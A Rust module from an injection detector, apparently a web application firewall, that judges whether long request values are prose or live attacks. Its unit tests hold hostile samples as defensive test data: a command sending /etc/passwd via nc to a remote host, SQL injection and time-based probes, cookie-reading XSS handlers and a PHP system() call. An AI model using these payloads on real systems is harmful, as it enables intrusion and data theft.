//! Authored content judged as a document.
//!
//! Long, multi-line values (a post in Markdown or HTML, a notebook cell, a
//! text file uploaded) are where people write *about* SQL, shells and
//! scripts: a tutorial names `CREATE TABLE`, a bug report quotes
//! `../../etc/passwd`, a code block calls `os.system`. What matters in a
//! document is what would execute where it lands: it is stored and shown
//! as a page, so live markup (a literal `<script`, a tag with an event
//! handler, `<?php`) counts in full, while the rest of what the rules see
//! in it counts as weak evidence ([`WEAK_POINTS`](crate::finding::WEAK_POINTS)):
//! a whole injection, which trips several rules, still adds up to a block;
//! one keyword never does. Markup that only appears after decoding HTML
//! entities (`&lt;script&gt;` in a code block) is text to a browser, so it
//! is weak too.
//!
//! Written here: this is a judgment of the product, not a parser.

use crate::finding::Class;

/// Shortest value judged as a document.
pub const MIN_BYTES: usize = 100;
/// Fewest lines with content a document has.
pub const MIN_LINES: usize = 3;

/// Whether a value is shaped like authored content: at least [`MIN_BYTES`]
/// long, over at least [`MIN_LINES`] non-blank lines, and text (no control
/// characters but tab and line breaks, nothing undecodable): binary data
/// with line breaks in it is no one's prose.
pub fn is_document(text: &str) -> bool {
    text.len() >= MIN_BYTES && !has_odd_char(text) && (is_prose(text) || is_multi_line(text))
}

/// A control character other than tab and line breaks, or U+FFFD. Most text
/// is ASCII, and bytes are far cheaper to look at than `char`s: this runs
/// over every long value.
fn has_odd_char(text: &str) -> bool {
    if text.is_ascii() {
        text.bytes()
            .any(|b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r')) || b == 0x7f)
    } else {
        has_odd_char_chars(text)
    }
}

fn has_odd_char_chars(text: &str) -> bool {
    text.chars()
        .any(|c| (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || c == '\u{FFFD}')
}

/// Shortest paragraph of prose judged as a document.
pub const MIN_PROSE_BYTES: usize = 200;
/// Fewest words a paragraph of prose has.
pub const MIN_PROSE_WORDS: usize = 30;

/// A paragraph of prose (a comment, a review): at least
/// [`MIN_PROSE_WORDS`] words, three in four of them plain words (letters,
/// maybe an apostrophe or trailing punctuation), over [`MIN_PROSE_BYTES`].
fn is_prose(text: &str) -> bool {
    if text.len() < MIN_PROSE_BYTES {
        return false;
    }
    let (words, plain) = if text.is_ascii() {
        prose_words_ascii(text.as_bytes())
    } else {
        prose_words_chars(text)
    };
    words >= MIN_PROSE_WORDS && plain * 4 >= words * 3
}

/// [`prose_words_chars`] by bytes, for ASCII text (`split_whitespace` and
/// `is_alphabetic` agree with these there): this runs over every long value.
fn prose_words_ascii(text: &[u8]) -> (usize, usize) {
    let (mut words, mut plain) = (0usize, 0usize);
    for w in text
        .split(|&b| crate::decode::ascii_space(b))
        .filter(|w| !w.is_empty())
    {
        words += 1;
        let end = w
            .iter()
            .rposition(|b| !b",.;:!?)".contains(b))
            .map_or(0, |i| i + 1);
        let core = &w[..end];
        let start = core.iter().position(|&b| b != b'(').unwrap_or(core.len());
        let core = &core[start..];
        plain += usize::from(
            !core.is_empty()
                && core
                    .iter()
                    .all(|&c| c.is_ascii_alphabetic() || c == b'\'' || c == b'-'),
        );
    }
    (words, plain)
}

/// The words of `text`, and how many of them are plain words.
fn prose_words_chars(text: &str) -> (usize, usize) {
    let (mut words, mut plain) = (0usize, 0usize);
    for w in text.split_whitespace() {
        words += 1;
        let core = w
            .trim_end_matches([',', '.', ';', ':', '!', '?', ')'])
            .trim_start_matches('(');
        plain += usize::from(
            !core.is_empty()
                && core
                    .chars()
                    .all(|c| c.is_alphabetic() || c == '\'' || c == '-'),
        );
    }
    (words, plain)
}

fn is_multi_line(text: &str) -> bool {
    text.split('\n')
        .filter(|l| !l.trim().is_empty())
        .take(MIN_LINES)
        .count()
        >= MIN_LINES
}

/// Whether a raw body is structured data rather than text: JSON, or XML
/// other than an HTML page (a gadget chain in XML is not prose).
pub fn looks_structured(raw: &str) -> bool {
    let t = raw.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
    let head = t.get(..16).unwrap_or(t).to_ascii_lowercase();
    t.starts_with(['{', '['])
        || (t.starts_with('<') && !head.starts_with("<!doctype html") && !head.starts_with("<html"))
}

/// Whether a finding of `class` that matched `matched` in the document
/// `raw` counts in full: live markup, template code and SSI directives (they act where a
/// document lands, a page), and protocol findings (a request or header
/// smuggled in a value acts on the way, wherever it lands). SQL and shell
/// findings count in full only as a line's breakout (see
/// [`breakout_line`]); the rest is weak.
pub fn counts_in_full(class: Class, raw: &str, matched: &str) -> bool {
    match class {
        Class::Protocol => true,
        Class::Xss | Class::Php | Class::Ssti | Class::Ssi => written_as_markup(raw, matched),
        _ => false,
    }
}

/// Whether a detector's SQL or shell finding, at `span` in the document
/// `text`, sits on a line that opens with a breakout: at most a plain token
/// (`1`, `admin`, `x`), then a quote, a closing bracket or a shell separator,
/// as when an injection is padded with lines of prose to look like a
/// document. Code and prose name SQL and commands mid-line
/// (`conn.execute("CREATE…`, `cat f | grep x`); a padded payload cannot
/// hide there, since the query or command a vulnerable application builds
/// meets the payload's own breakout where its line starts.
pub fn breakout_line(text: &str, span: &std::ops::Range<usize>) -> bool {
    let Some(before) = text.get(..span.start) else {
        return false;
    };
    let start = before.rfind('\n').map_or(0, |i| i + 1);
    let line = text[start..].trim_start();
    let token = line
        .find(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '@' | '-' | '_')))
        .unwrap_or(line.len());
    let rest = line[token..].trim_start_matches([' ', '\t']);
    token <= 32
        && (rest.starts_with(['\'', '"', '`', ')', ';', '|', '&']) || rest.starts_with("$("))
}

/// Whether the markup a finding matched (`matched`, in decoded text) is
/// written literally in the value (`raw`, as the application receives it):
/// a match that opens with a tag needs a literal `<` and that name; any
/// other match (an attribute, a URL, a string breakout) must start inside a
/// literal tag (entities inside attribute values are decoded by browsers,
/// so those count). Text that becomes markup only through entity or escape decoding
/// is shown as text.
pub fn written_as_markup(raw: &str, matched: &str) -> bool {
    let matched = matched.to_ascii_lowercase();
    let raw = raw.to_ascii_lowercase();
    // A match that opens with a tag is judged by that tag; one that opens
    // with anything else (an attribute, a quote, a sink) by where it sits.
    match matched
        .trim_start()
        .starts_with('<')
        .then(|| matched.find('<'))
        .flatten()
    {
        Some(i) => {
            let name: String = matched[i + 1..]
                .chars()
                .skip_while(|c| c.is_whitespace() || *c == '/')
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '?' | '!' | '-' | ':'))
                .collect();
            literal_tag(&raw, &name)
        }
        None => inside_literal_tag(&raw, &matched),
    }
}

/// Whether the start of `matched` (an attribute, a URL, a DOM sink) occurs
/// in `raw` between a literal `<` and the `>` that closes it.
fn inside_literal_tag(raw: &str, matched: &str) -> bool {
    let needle: String = matched.chars().take(8).collect();
    let needle = needle.trim();
    if needle.is_empty() {
        return false;
    }
    memchr::memmem::find_iter(raw.as_bytes(), needle.as_bytes()).any(|at| {
        let before = &raw.as_bytes()[..at];
        match (memchr::memrchr(b'<', before), memchr::memrchr(b'>', before)) {
            (Some(open), Some(close)) => open > close && starts_tag(&raw[open + 1..]),
            (Some(open), None) => starts_tag(&raw[open + 1..]),
            _ => false,
        }
    })
}

fn starts_tag(after_lt: &str) -> bool {
    after_lt.starts_with(|c: char| c.is_ascii_alphabetic())
}

/// Whether `raw` has `<` (then optional `/` and spaces) directly followed by
/// `name`, or by any letter, `?` or `!` when `name` is empty.
fn literal_tag(raw: &str, name: &str) -> bool {
    let b = raw.as_bytes();
    memchr::memchr_iter(b'<', b).any(|i| {
        let rest = raw[i + 1..].trim_start_matches(['/', ' ', '\t', '\n', '\r']);
        if name.is_empty() {
            rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '?' || c == '!')
        } else {
            rest.starts_with(name)
        }
    })
}

/// Shortest value judged as a binary blob.
pub const MIN_BLOB_CHARS: usize = 256;
/// Characters each side of a match that [`binary_around`] looks at.
const BLOB_WINDOW: usize = 24;

/// A character that text does not hold: a control other than tab and line
/// breaks (C0 and C1), or one lost in decoding.
fn is_binaryish(c: char) -> bool {
    c == '\u{FFFD}' || (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
}

/// Whether a value is binary data carried as text: a session-replay or
/// compressed payload in a JSON string, a file PUT raw. At least
/// [`MIN_BLOB_CHARS`] long, over a tenth of it control bytes and undecodable
/// sequences (random bytes read as text hold about a quarter).
pub fn is_binary_blob(text: &str) -> bool {
    if text.len() < MIN_BLOB_CHARS {
        return false;
    }
    let (mut total, mut odd) = (0usize, 0usize);
    for c in text.chars() {
        total += 1;
        odd += usize::from(is_binaryish(c));
    }
    total >= MIN_BLOB_CHARS && odd * 10 > total
}

/// Whether the match at `span` in `text` (part of a binary blob) is noise of
/// that blob: a quarter or more of the characters on each side of it are
/// binary (controls, undecodable, or bytes past ASCII read as Latin-1). An injection lands in text that a query or a shell parses, so its
/// own surroundings are text even when the value holds binary elsewhere.
pub fn binary_around(text: &str, span: &std::ops::Range<usize>) -> bool {
    let (Some(before), Some(after)) = (text.get(..span.start), text.get(span.end..)) else {
        return false;
    };
    let dense = |it: &mut dyn Iterator<Item = char>| {
        let (mut n, mut odd) = (0usize, 0usize);
        for c in it.take(BLOB_WINDOW) {
            n += 1;
            // Bytes read as Latin-1 (or escaped in JSON) show as that range.
            odd += usize::from(is_binaryish(c) || ('\u{80}'..='\u{ff}').contains(&c));
        }
        n > 0 && odd * 4 >= n
    };
    dense(&mut before.chars().rev()) && dense(&mut after.chars())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The byte paths for ASCII text answer as the `char` paths do.
    #[test]
    fn ascii_fast_paths_agree_with_the_char_definitions() {
        let pieces = [
            "a", "word", "Z", "it's", "x-y", "1", "(", ")", ",", ".", "?", ";", " ", "  ", "\t",
            "\n", "\r", "\x0b", "\x0c", "\x01", "\x7f", "_", "'",
        ];
        let mut rng = crate::testing::XorShift(0x2545_f491_4f6c_dd1d);
        for _ in 0..20_000 {
            let n = 20 + rng.below(200);
            let text: String = (0..n).map(|_| pieces[rng.below(pieces.len())]).collect();
            assert_eq!(has_odd_char(&text), has_odd_char_chars(&text), "{text:?}");
            assert_eq!(
                prose_words_ascii(text.as_bytes()),
                prose_words_chars(&text),
                "{text:?}"
            );
        }
    }

    #[test]
    fn documents_are_long_and_multi_line() {
        let post = "## Indexes\n\nRun `CREATE TABLE t (id int)` first.\nThen load the data with the script below and check the plan.\n";
        assert!(is_document(post));
        assert!(!is_document("CREATE TABLE t (id int)"), "one line");
        assert!(!is_document("a\nb\nc"), "too short");
        let comment = "Thanks, this saved me an evening. For big tables I'd pipe the dump through gzip (mysqldump ... | gzip > orders.sql.gz) and I would also check the plan before and after adding the index, since the planner may still prefer a scan on small tables.";
        assert!(is_document(comment), "a paragraph of prose");
        let payload = format!(
            "; cat /etc/passwd | nc 203.0.113.9 4444 {}",
            "&& id ".repeat(40)
        );
        assert!(!is_document(&payload), "a long command line is no prose");
        assert!(looks_structured("\r\n{\"a\": 1}") && looks_structured("<sorted-set>"));
        assert!(!looks_structured("<!DOCTYPE html><p>hi</p>") && !looks_structured("id,name\n"));
        let binary = format!("{post}\u{1}\u{2}");
        assert!(!is_document(&binary), "control bytes");
        assert!(
            !is_document(&format!("{}\n\n\n\n", "x".repeat(200))),
            "blank lines do not count"
        );
    }

    #[test]
    fn a_breakout_opening_a_line_is_one() {
        let doc = "Thanks for the report.\n1' UNION SELECT name FROM users-- \nBest regards";
        let at = doc.find('\'').unwrap();
        assert!(breakout_line(doc, &(at..at + 10)));
        let shell = "See below.\n; cat /etc/passwd\nBye";
        let at = shell.find(';').unwrap();
        assert!(breakout_line(shell, &(at..at + 5)));
        let blind = "Hello\n9) AND SLEEP(5)-- \nBye";
        let at = blind.find("SLEEP").unwrap();
        assert!(
            breakout_line(blind, &(at..at + 5)),
            "the span need not open the line"
        );
        let code = "import os\nconn.execute(\"CREATE TABLE t (id INT)\")";
        let at = code.find('"').unwrap();
        assert!(!breakout_line(code, &(at..at + 6)));
        let pipe = "cat /etc/nginx/nginx.conf | grep server_name";
        let at = pipe.find('|').unwrap();
        assert!(!breakout_line(pipe, &(at..at + 6)));
    }

    #[test]
    fn escaped_markup_is_text_and_literal_markup_is_live() {
        let escaped =
            "<p>Never write</p><pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>";
        assert!(!written_as_markup(escaped, "<script>"));
        assert!(written_as_markup(
            "<p>hi</p><script>x()</script>",
            "<script>"
        ));
        assert!(written_as_markup("<p>hi</p>< / SCRIPT >", "</script"));
        // A handler needs a literal tag to sit in; its value may be entity-encoded.
        assert!(written_as_markup(
            "<img src=x onerror=&#97;lert(1)>",
            "onerror=alert("
        ));
        assert!(!written_as_markup(
            "text &lt;img src=x onerror=alert(1)&gt;",
            "onerror=alert("
        ));
        // A DOM sink in prose or an escaped snippet is text, in a tag it is live.
        assert!(!written_as_markup(
            "<p>see <code>&lt;script&gt;alert(document.cookie)</code></p>",
            "document.cookie"
        ));
        assert!(written_as_markup(
            "<p><img src=x onerror=\"x=document.cookie\"></p>",
            "document.cookie"
        ));
        assert!(written_as_markup("<?php system($x); ?>", "<?php"));
        // A quote in a code block followed by markup later is no breakout.
        assert!(!written_as_markup(
            "<pre><code>WHERE k = 'x';\nCREATE TABLE t (id INT);</code></pre>",
            "';\ncreate table t (id int);</code></pre>"
        ));
        assert!(!written_as_markup("&lt;?php echo 1; ?&gt;", "<?php"));
    }
}
